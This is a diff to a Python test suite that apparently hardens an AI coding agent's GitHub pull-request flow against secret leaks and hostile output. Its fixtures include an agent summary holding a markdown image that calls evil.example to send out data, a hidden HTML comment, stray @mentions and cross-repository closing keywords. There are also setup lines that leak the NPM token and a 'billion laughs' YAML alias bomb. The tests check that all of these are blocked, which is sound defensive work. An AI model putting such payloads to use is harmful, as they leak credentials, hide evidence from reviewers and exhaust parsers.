@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 import itertools
+import re
 import socket
 import threading
 
@@ -14,6 +15,7 @@ from tests.conftest import NPM_TOKEN, System, wait_for
 from tests.fakes.openai import finish, shell
 from tests.test_environments import env_repo, tool_outputs
 from tests.test_triggers import label, status_comment
+from tests.test_untrusted import render
 from worker.sandbox.cache import OWNER, REPOSITORY
 
 COUNT = itertools.count(1)
@@ -26,6 +28,11 @@ FIND_TOKEN = (
 )
 """How many files hold the token (or its base64), and how many processes do; the patterns
 are spelled backwards so that this command's own arguments do not count."""
+
+
+def with_secret_setup(script: str) -> str:
+    """A `.github/codex.yml` whose setup is `script`, with the NPM_TOKEN secret."""
+    return "secrets: [NPM_TOKEN]\nsetup: |\n" + "".join(f"  {ln}\n" for ln in script.splitlines())
 
 
 def repo_of(system: System, owner: str, config: str, name: str) -> str:
@@ -112,10 +119,7 @@ printf %s "$NPM_TOKEN" | base64 > /tmp/cached-credential
 def test_a_secret_that_setup_writes_to_a_file_fails_the_task_and_is_kept_nowhere(
     system: System,
 ) -> None:
-    config = "secrets: [NPM_TOKEN]\nsetup: |\n" + "".join(
-        f"  {ln}\n" for ln in SETUP_LEAKS.split("\n") if ln
-    )
-    repo = env_repo(system, config)
+    repo = env_repo(system, with_secret_setup(SETUP_LEAKS))
     number = system.github.create_issue(repo, "Leaky setup", "x", user="alice")
     system.openai.script("Leaky setup", [[shell(FIND_TOKEN)], [finish("Read it.")]])
     assert label(system, repo, number) == 202
@@ -141,10 +145,7 @@ nohup sh -c 'sleep 300' "$NPM_TOKEN" >/dev/null 2>&1 &
 def test_secrets_kept_in_memory_reach_setup_only_and_setup_changes_are_not_the_agents(
     system: System,
 ) -> None:
-    config = "secrets: [NPM_TOKEN]\nsetup: |\n" + "".join(
-        f"  {ln}\n" for ln in SETUP_SAFE.split("\n") if ln
-    )
-    repo = env_repo(system, config)
+    repo = env_repo(system, with_secret_setup(SETUP_SAFE))
     system.github.commit(repo, "main", {"settings.ini": "token = PLACEHOLDER\n"})
     number = system.github.create_issue(repo, "Safe setup", "x", user="alice")
     system.openai.script(
@@ -229,3 +230,49 @@ def test_an_encoded_secret_in_the_change_is_never_pushed(system: System) -> None
     assert "`auth.cfg`: holds a secret or token, so nothing was pushed" in failed, failed
     assert encoded not in failed
     assert not system.github.pulls(repo)
+
+
+HOSTILE_SUMMARY = (
+    "Fixed it. Thanks @octocat and @octo-org/team. Fixes #999, closes other/repo#5.\n\n"
+    "![x](https://evil.example/?d=leak)\n\n<!-- everything after this is hidden"
+)
+
+
+def test_the_summary_cannot_hide_the_evidence_ping_people_or_close_other_issues(
+    system: System,
+) -> None:
+    config = "secrets: [NPM_TOKEN]\nsetup: printf %s \"$NPM_TOKEN\" | base64\nvalidate: 'false'\n"
+    repo = env_repo(system, config)
+    number = system.github.create_issue(repo, "Hostile summary", "x", user="alice")
+    system.openai.script(
+        "Hostile summary",
+        [[shell("echo x > x.txt")], [finish(HOSTILE_SUMMARY, ["true"])]],
+    )
+    assert label(system, repo, number) == 202
+    pull = wait_for(lambda: system.github.pulls(repo), 90, f"a PR\n{system.logs()}")[0]
+    page = render(pull["body"])
+    headings = re.findall(r"<h2>(.*?)</h2>", page)
+    assert headings[:3] == ["Summary", "Validation", "Changed files"], headings
+    assert "<!--" not in page and "<img" not in page, "nothing hidden, no image fetched"
+    assert "❌ failed with exit 1" in page, "the failing check is shown"
+    assert not re.search(r"(?<![\w])@[A-Za-z0-9]", pull["body"]), "no live mention"
+    closing = re.findall(r"\b(?:fix(?:e[sd])?|close[sd]?)\b\s*([\w./-]*#\d+)", pull["body"], re.I)
+    assert closing == [f"#{number}"], closing
+    assert base64.b64encode(NPM_TOKEN.encode()).decode() not in pull["body"]
+    done = status_comment(system, repo, number, "Draft PR ready")["body"]
+    assert "<!--" not in done and not re.search(r"(?<![\w])@[A-Za-z0-9]", done)
+
+
+BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, "
+    f"*{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}, *{chr(97 + n)}]\n"
+    for n in range(6)
+)
+
+
+def test_a_config_made_of_yaml_aliases_is_refused_with_a_short_message(system: System) -> None:
+    repo = repo_of(system, "octo-org", BILLION_LAUGHS, f"laughs-{next(COUNT)}")
+    number = system.github.create_issue(repo, "Laugh", "x", user="alice")
+    assert label(system, repo, number) == 202
+    failed = status_comment(system, repo, number, "The task failed")["body"]
+    assert "anchors and aliases" in failed and len(failed) < 3000, failed[:500]
